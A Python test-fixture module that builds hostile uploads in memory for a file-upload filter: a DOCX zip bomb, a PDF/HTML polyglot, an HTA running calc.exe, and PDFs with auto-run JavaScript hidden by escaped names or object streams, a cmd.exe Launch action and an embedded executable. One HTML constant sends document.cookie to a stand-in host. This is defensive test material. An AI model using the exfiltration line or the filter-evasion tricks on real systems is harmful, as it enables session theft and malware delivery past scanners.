"""Hostile uploads, built in memory and small: what an outside test sent us.

Each builder returns the file's bytes. The zip bomb is about 100 KB that
unpacks to 100 MB; nothing here is written to disk or kept in the repository.
"""

import functools
import io
import zipfile

import pikepdf

from tests.factories.documents import PDF, office, pdf

SCRIPT = "app.alert('pwned');"
HTML = (
    b"<!DOCTYPE html><html><head><script>fetch('https://evil.example/?c='"
    b"+document.cookie)</script></head><body>Invoice</body></html>\n"
)
# An HTML Application: Windows runs it with mshta.exe when it is opened.
HTA = (
    b'<html><head><HTA:APPLICATION ID="update"/><script language="VBScript">'
    b'CreateObject("WScript.Shell").Run "calc.exe"</script></head></html>\n'
)
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


@functools.cache
def docx_bomb(unpacked_mb: int = 100) -> bytes:
    """A DOCX whose one extra member is ``unpacked_mb`` of zeros, deflated at
    a ratio of about 1000 to 1."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
            block = bytes(1024 * 1024)
            for _ in range(unpacked_mb):
                member.write(block)
    return buffer.getvalue()


def docm() -> bytes:
    """A Word document with a VBA macro project, as Word saves a .docm."""
    return office("docx", {"word/vbaProject.bin": MZ})


def pdf_html_polyglot() -> bytes:
    """A PDF that is also a web page: the markup sits in a comment after the
    header, where PDF readers skip it and a browser runs it."""
    header, _, rest = PDF.partition(b"\n")
    return header + b"\n%" + HTML + rest


def _open_action_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(SCRIPT))
    )


def pdf_script_in_object_stream() -> bytes:
    """/OpenAction JavaScript inside a compressed object stream: neither
    "JavaScript" nor the script appears in the file's bytes."""
    raw = pdf(_open_action_script, object_streams=True)
    assert b"JavaScript" not in raw and SCRIPT.encode() not in raw
    return raw


def pdf_script_with_escaped_names() -> bytes:
    """/S /J#61vaScript and /J#53: the same names, spelled to dodge a search
    of the bytes (PDF 32000-1:2008, 7.3.5)."""
    raw = pdf(_open_action_script)
    escaped = raw.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
    assert b"/JavaScript" not in escaped and b"/JS " not in escaped
    return escaped


def pdf_launch() -> bytes:
    """Opening it asks the reader to start a program."""

    def build(document):
        document.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.Launch,
            F=pikepdf.String("cmd.exe"),
            Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe")),
        )

    return pdf(build)


def pdf_embedded_file() -> bytes:
    """A PDF carrying another file (here a Windows program) inside it."""

    def build(document):
        document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
            document, MZ, mime_type="application/octet-stream"
        )

    return pdf(build)


def pdf_xfa_form() -> bytes:
    """An XFA form: XML that Acrobat turns into a form, scripts included."""

    def build(document):
        xfa = document.make_stream(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
            b"<subform><event activity='initialize'>"
            b"<script contentType='application/x-javascript'>"
            + SCRIPT.encode()
            + b"</script></event></subform></template></xdp:xdp>"
        )
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)

    return pdf(build)


def pdf_page_additional_action() -> bytes:
    """A script that runs when the first page opens (/AA /O)."""

    def build(document):
        action = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String(SCRIPT)
        )
        document.pages[0].obj.AA = pikepdf.Dictionary(O=action)

    return pdf(build)


def exe_with_pdf_header() -> bytes:
    return b"%PDF-1.7\n" + MZ
